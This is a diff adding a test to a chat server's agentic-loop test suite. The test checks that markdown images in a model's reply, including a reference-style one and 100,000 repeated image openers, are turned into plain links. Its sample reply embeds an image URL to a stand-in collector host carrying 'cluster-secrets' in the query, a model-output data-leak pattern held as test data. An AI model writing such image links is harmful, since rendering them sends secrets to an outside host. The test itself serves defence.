@@ -201,6 +201,19 @@ describe('the agentic loop (OpenAI-compatible provider)', () => {
     ).toEqual(['third']);
   });
 
+  it('shows no image a reply asks for: every image becomes a link, however many the model writes', async () => {
+    configure();
+    await reset(superadmin);
+    // An image would be fetched from its host when shown, with whatever the URL carries.
+    const leak = 'https://collector.example/p.png?d=cluster-secrets';
+    openai.enqueueText(`Chart: ![usage](${leak}) and ![by reference][1]\n\n[1]: ${leak}\n${'!['.repeat(100_000)}`);
+    const { status, body } = await say(superadmin, 'draw it');
+    expect(status).toBe(200);
+    expect(body.reply).toContain(`Chart: [usage](${leak}) and [by reference][1]`);
+    expect(body.reply).not.toContain('![');
+    expect(body.reply).toContain('['.repeat(100_000));
+  });
+
   it('limits each user to 20 messages a minute (429)', async () => {
     configure();
     const busy = await userToken('viewer', 'chat-busy');
